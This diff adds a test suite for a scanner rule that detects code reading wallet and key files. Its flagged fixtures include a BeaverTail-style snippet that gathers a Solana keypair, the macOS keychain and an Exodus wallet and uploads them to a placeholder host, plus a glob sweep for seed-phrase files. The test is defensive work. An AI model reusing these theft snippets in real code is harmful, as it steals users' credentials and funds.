@@ -1,0 +1,53 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './wallet-and-key-files.js';
+
+ruleTest(rule, {
+  clean: [
+    {
+      name: 'ssh2 client reading the default key and known_hosts',
+      file: 'lib/client.js',
+      code: `const fs = require('fs'), os = require('os'), path = require('path');
+const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));
+const known = fs.readFileSync(path.join(os.homedir(), '.ssh/known_hosts'), 'utf8');
+module.exports = { key, known };
+`,
+    },
+    {
+      name: 'dotenv loading .env',
+      file: 'server/index.js',
+      code: `require('dotenv').config({ path: '.env' });\nconst port = process.env.PORT || 3000;\n`,
+    },
+    {
+      name: 'aws sdk credentials file',
+      file: 'src/credentials.ts',
+      code: `import { homedir } from 'os';\nexport const credentialsFile = process.env.AWS_SHARED_CREDENTIALS_FILE ?? homedir() + '/.aws/credentials';\n`,
+    },
+  ],
+  flagged: [
+    {
+      name: 'Solana deploy script loading the CLI keypair (low)',
+      file: 'scripts/deploy.js',
+      code: `const { Connection, Keypair } = require('@solana/web3.js');
+const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(require('fs').readFileSync(require('os').homedir() + '/.config/solana/id.json'))));
+fetch('https://api.devnet.solana.com', { method: 'POST' });
+`,
+      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
+    },
+    {
+      name: 'BeaverTail-style wallet and keychain grab with upload',
+      file: 'public/api/keygen.js',
+      code: `const os = require('os'), fs = require('fs'), request = require('request');
+const hd = os.homedir();
+const targets = [hd + '/.config/solana/id.json', hd + '/Library/Keychains/login.keychain-db', hd + '/AppData/Roaming/Exodus/exodus.wallet'];
+request.post({ url: 'http://example.org/uploads', formData: { multi_file: targets.map((t) => fs.createReadStream(t)) } });
+`,
+      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /Solana keypair, macOS keychain, desktop wallet, and sends/ }],
+    },
+    {
+      name: 'glob sweep for seed phrases',
+      file: 'util.js',
+      code: `const glob = require('glob');\nconst files = glob.sync('**/*mnemonic*', { cwd: require('os').homedir() });\n`,
+      findings: [{ line: 2, severity: 'medium', decoded: undefined }],
+    },
+  ],
+});
